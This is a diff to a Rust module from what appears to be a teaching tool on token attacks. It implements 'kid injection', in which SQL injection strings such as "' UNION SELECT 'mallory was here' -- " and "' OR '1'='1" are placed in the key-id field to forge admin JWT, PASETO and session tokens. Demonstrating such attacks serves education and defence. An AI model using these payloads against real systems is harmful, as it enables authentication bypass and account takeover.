@@ -9,15 +9,14 @@
 //! PASETO has no header to put a `kid` into, but a footer that is used for it,
 //! and the specification warns that the footer is unauthenticated until the
 //! token is verified (Payload-Processing, Key-ID Support). The attack carries
-//! over unchanged.
-
-use serde_json::Value;
+//! over unchanged. Of a session the id itself is what is looked up, so it goes
+//! there; a Biscuit names its root key by a number, and nothing else fits.
 
 use crate::attack::{Attack, CannotForge, Forgery};
-use crate::attacker::{AttackerView, footer_with_kid};
+use crate::attacker::AttackerView;
 use crate::card::AttackProfile;
-use crate::hs::Hs;
-use crate::mint::{self, Signature};
+use crate::key_name::{self, Name};
+use crate::mint;
 use crate::notebook::Notebook;
 use crate::scheme::Scheme;
 use crate::weakness::Weakness;
@@ -51,7 +50,8 @@ static PROFILE: AttackProfile = AttackProfile {
     lesson: include_str!("../../lessons/kid-injection.md"),
 };
 
-/// A secret that reads well in a statement on a projector.
+/// A secret that reads well in a statement on a projector. It has 16 bytes, as
+/// many as the shortest key that a JWE takes.
 const WORD: &str = "mallory was here";
 
 impl Attack for KidInjection {
@@ -60,80 +60,45 @@ impl Attack for KidInjection {
     }
 
     fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
+        let word = format!("' UNION SELECT '{WORD}' -- ");
+        if view.scheme() == Scheme::Biscuit {
+            return Err(key_name::only_a_number(view, &word, notes)?);
+        }
         notes.step(
             "Guesses the statement behind the lookup: SELECT a key FROM a table WHERE kid = '...'.",
             "",
         );
         let mut forgeries = Vec::new();
-        if let Scheme::Jwt(algorithm) = view.scheme() {
-            let hs = Hs::of(algorithm).unwrap_or(Hs::S256);
-            for (variant, kid) in [
-                ("union-word", format!("' UNION SELECT '{WORD}' -- ")),
-                (
-                    "union-word-no-comment",
-                    format!("' UNION SELECT '{WORD}' WHERE '1'='1"),
-                ),
-            ] {
-                forgeries.push(word(view, hs, variant, &kid, notes)?);
-            }
+        for (variant, text) in [
+            ("union-word", word),
+            (
+                "union-word-no-comment",
+                format!("' UNION SELECT '{WORD}' WHERE '1'='1"),
+            ),
+        ] {
+            let name = Name {
+                variant,
+                text: &text,
+                says: format!("Names a key that closes the quote and selects a word of her own: {WORD}."),
+            };
+            forgeries.extend(key_name::by_secret(view, &name, WORD.as_bytes(), notes)?);
         }
-        forgeries.push(own_key(view, notes)?);
+        let record = mint::hexadecimal(&view.own_record()?);
+        let name = Name {
+            variant: "union-own-key",
+            text: &format!("' UNION SELECT x'{record}' -- "),
+            says: "Names a key that closes the quote and selects bytes of her own in its place.".into(),
+        };
+        forgeries.push(key_name::by_own_key(view, &name, notes)?);
+        if let Scheme::Session(_) = view.scheme() {
+            let name = Name {
+                variant: "or-true",
+                text: "' OR '1'='1",
+                says: "Names a session that closes the quote and is true of every row: the first one is somebody's."
+                    .into(),
+            };
+            forgeries.push(key_name::by_own_key(view, &name, notes)?);
+        }
         Ok(forgeries)
     }
-}
-
-/// The statement returns a word, and the token is an HMAC under that word.
-fn word(
-    view: &AttackerView<'_>,
-    hs: Hs,
-    variant: &str,
-    kid: &str,
-    notes: &mut Notebook,
-) -> Result<Forgery, CannotForge> {
-    let mut header = view.header_with_kid(kid);
-    header.insert("alg".into(), hs.name().into());
-    notes.variant_step(
-        variant,
-        format!("Names a key that closes the quote and selects a word of her own: {WORD}."),
-        Value::Object(header.clone()).to_string(),
-    );
-    notes.variant_step(
-        variant,
-        "Signs the claims, in which the subject is admin, with that word as the secret.",
-        mint::jwt_payload(view.wanted())?,
-    );
-    let token = mint::jws(&header, view.wanted(), &Signature::Tag(hs, WORD.into()))?;
-    Ok(Forgery::new(variant, token))
-}
-
-/// The statement returns a key of the kind that the target uses, bytes and all.
-fn own_key(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
-    let variant = "union-own-key";
-    let key = mint::hexadecimal(&view.own_key());
-    let kid = format!("' UNION SELECT x'{key}' -- ");
-    notes.variant_step(
-        variant,
-        "Names a key that closes the quote and selects the bytes of a key of her own.",
-        kid.as_str(),
-    );
-    notes.variant_step(
-        variant,
-        format!(
-            "Makes a {} token with that key, in which the subject is admin.",
-            view.scheme()
-        ),
-        "",
-    );
-    let token = view.token_by_own_key(&kid)?;
-    Ok(match view.scheme() {
-        Scheme::Jwt(_) => Forgery::new(variant, token),
-        Scheme::Paseto(..) => Forgery::analogue(
-            variant,
-            token,
-            format!(
-                "PASETO has no kid header; the footer names the key instead: {:.40}...",
-                footer_with_kid(&kid)
-            ),
-        ),
-    })
 }
